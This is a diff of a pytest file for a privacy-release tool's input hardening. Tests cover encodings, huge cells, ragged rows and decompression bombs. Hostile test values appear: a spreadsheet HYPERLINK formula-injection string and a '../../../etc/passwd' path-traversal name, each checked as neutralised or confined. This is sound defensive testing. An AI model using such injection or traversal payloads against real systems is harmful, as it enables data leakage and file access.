@@ -8,40 +8,27 @@ import stat
 
 import pytest
 
-from support.release_runs import nursery
+from support.command import invoke
+from support.release_documents import write_visits
 from undertow.errors import UndertowError
 from undertow.release import load
 from undertow.release.source_files import Limits, open_file
 
-RELEASE = """
-[source]
-table = "visits.csv"
-unit = "person"
-[promise]
-granularity = "user"
-epsilon = "1"
-delta = "1e-6"
-[bounds]
-rows_per_unit = 2
-[[queries]]
-name = "=by zone"
-select = "count"
-by = ["zone"]
-keys = "discover"
-"""
+PEOPLE = [f"p{k},A" for k in range(2000)]
 
 
-@pytest.fixture(scope="module")
-def runs():
-    with nursery() as made:
-        yield made
+def written(folder, rows, name="=by zone"):
+    return write_visits(
+        folder,
+        rows,
+        promise={"granularity": "user", "epsilon": "1", "delta": "1e-6"},
+        query={"name": name, "keys": "discover"},
+    )
 
 
 @pytest.fixture
 def folder(tmp_path):
-    rows = [f"p{k},A" for k in range(2000)]
-    (tmp_path / "visits.csv").write_text("\n".join(["person,zone", *rows]))
-    (tmp_path / "visits.toml").write_text(RELEASE)
+    written(tmp_path, PEOPLE)
     return tmp_path
 
 
@@ -71,9 +58,7 @@ def test_all_files_are_for_their_owner_alone_whatever_the_umask(folder, runs):
 
 def test_formulas_in_the_table_are_disarmed_in_the_answers(folder):
     formula = '=HYPERLINK(""http://x/""&A1)'
-    rows = [f'p{k},"{formula}"' for k in range(2000)]
-    (folder / "visits.csv").write_text("\n".join(["person,zone", *rows]))
-    load(folder / "visits.toml").run()
+    load(written(folder, [f'p{k},"{formula}"' for k in range(2000)])).run()
     with (folder / "release" / "01-by-zone.csv").open(newline="") as file:
         _, row = csv.reader(file)
     assert row[0] == "'" + formula.replace('""', '"')
@@ -88,39 +73,39 @@ ZONES = {
 
 
 @pytest.mark.parametrize("name", ZONES)
-def test_a_wrong_encoding_is_one_sentence(folder, runs, name):
+def test_a_wrong_encoding_is_one_sentence(folder, name):
     body = b"".join(b"p%d,%s\n" % (k, ZONES[name]) for k in range(300))
     (folder / "visits.csv").write_bytes(b"person,zone\n" + body)
-    done = runs.run("release", "run", "visits.toml", folder=folder)
-    assert done.status == 2, done.output
-    assert done.error.count("\n") == 1
-    assert "Traceback" not in done.error
+    done = invoke("release", "run", folder / "visits.toml")
+    assert done.exit_code == 2, done.stdout
+    assert done.stderr.count("\n") == 1
+    assert "Traceback" not in done.stderr
 
 
 @pytest.mark.parametrize("name", ["utf-16", "utf-32"])
-def test_a_whole_file_in_another_encoding_is_one_sentence(folder, runs, name):
+def test_a_whole_file_in_another_encoding_is_one_sentence(folder, name):
     text = (folder / "visits.csv").read_text()
     (folder / "visits.csv").write_bytes(text.encode(name))
-    done = runs.run("release", "run", "visits.toml", folder=folder)
-    assert done.status == 2, done.output
-    assert done.error.count("\n") == 1
+    done = invoke("release", "run", folder / "visits.toml")
+    assert done.exit_code == 2, done.stdout
+    assert done.stderr.count("\n") == 1
 
 
-def test_a_cell_of_ten_megabytes_is_refused_or_one_cell(folder, runs):
+def test_a_cell_of_ten_megabytes_is_refused_or_one_cell(folder):
     with (folder / "visits.csv").open("a") as file:
-        file.write("\nlong," + "x" * 10_000_000)
-    done = runs.run("release", "run", "visits.toml", folder=folder)
-    assert done.status in (0, 2)
-    assert "xxxx" not in done.output + done.error
-    assert done.error.count("\n") == (done.status == 2)
+        file.write("long," + "x" * 10_000_000)
+    done = invoke("release", "run", folder / "visits.toml")
+    assert done.exit_code in (0, 2)
+    assert "xxxx" not in done.stdout + done.stderr
+    assert done.stderr.count("\n") == (done.exit_code == 2)
 
 
-def test_ragged_rows_are_one_sentence(folder, runs):
+def test_ragged_rows_are_one_sentence(folder):
     with (folder / "visits.csv").open("a") as file:
-        file.write('\n"never closed,B\np9,A,B,C,D\n')
-    done = runs.run("release", "run", "visits.toml", folder=folder)
-    assert done.status in (0, 2)
-    assert done.error.count("\n") == (done.status == 2)
+        file.write('"never closed,B\np9,A,B,C,D\n')
+    done = invoke("release", "run", folder / "visits.toml")
+    assert done.exit_code in (0, 2)
+    assert done.stderr.count("\n") == (done.exit_code == 2)
 
 
 def test_a_file_that_unpacks_to_far_more_is_refused(tmp_path):
@@ -149,8 +134,6 @@ def test_a_packed_file_that_is_none_is_one_sentence(tmp_path, content):
 
 
 def test_a_name_with_dots_and_slashes_stays_in_the_folder(folder):
-    text = RELEASE.replace("=by zone", "../../../etc/passwd")
-    (folder / "visits.toml").write_text(text)
-    done = load(folder / "visits.toml").run()
+    done = load(written(folder, PEOPLE, "../../../etc/passwd")).run()
     assert sorted(done.files) == ["01-etc-passwd.csv", "manifest.json"]
     assert done.folder == folder / "release"
